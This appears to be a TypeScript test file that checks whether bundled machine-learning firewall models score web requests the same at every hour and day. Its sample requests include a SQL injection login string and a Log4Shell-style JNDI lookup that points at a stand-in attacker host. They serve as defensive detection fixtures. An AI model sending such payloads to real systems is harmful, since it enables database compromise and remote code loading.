import type { LoadedModel } from '../../src/adapter/load-model';
import type { MlRequest } from '../../src/contract/ml-request';
import { loadBundled } from './load-bundled';

/**
 * Issue 11: the verdict of a request does not depend on the time of day. Each bundled trained model
 * scores the same requests at every hour (0-23) and on every day (1-31) exactly alike.
 */
const REQUESTS: MlRequest[] = [
  { method: 'GET', path: '/index.html', args: [['ARGS:page', '2'], ['ARGS:lang', 'en'], ['ARGS:q', 'blue running shoes']], files: [], sizes: [], hour: 0, day: 1 },
  { method: 'POST', path: '/login', args: [['ARGS:user', "admin' OR '1'='1"]], files: [], sizes: [], hour: 0, day: 1, version: 2, crs: [['inbound_anomaly_score_pl1', 10], ['sql_injection_score', 10]] },
  { method: 'GET', path: '/', args: [], files: [], sizes: [], hour: 0, day: 1, version: 2, headers: [['REQUEST_HEADERS:User-Agent', '${jndi:ldap://evil.example/a}']] },
  { method: 'GET', path: '/search', args: [['ARGS:name', "O'Brien"]], files: [], sizes: [], hour: 0, day: 1, version: 2, crs: [['inbound_anomaly_score_pl2', 5]] },
];

describe.each(['payload-v1', 'crs-stack-v1'])('saved_models/%s ignores hour and day', (name) => {
  let model: LoadedModel;
  beforeAll(async () => {
    model = await loadBundled(name);
  });
  afterAll(() => model?.dispose());

  it('gives every request the same score at every hour and on every day', async () => {
    for (const request of REQUESTS) {
      const variants: MlRequest[] = [];
      for (let hour = 0; hour < 24; hour++) variants.push({ ...request, hour });
      for (let day = 1; day <= 31; day++) variants.push({ ...request, hour: 13, day });
      const decisions = await model.judgeBatch(variants);
      expect(new Set(decisions.map((d) => d.score)).size).toBe(1);
      expect(new Set(decisions.map((d) => d.anomaly)).size).toBe(1);
    }
  });
});
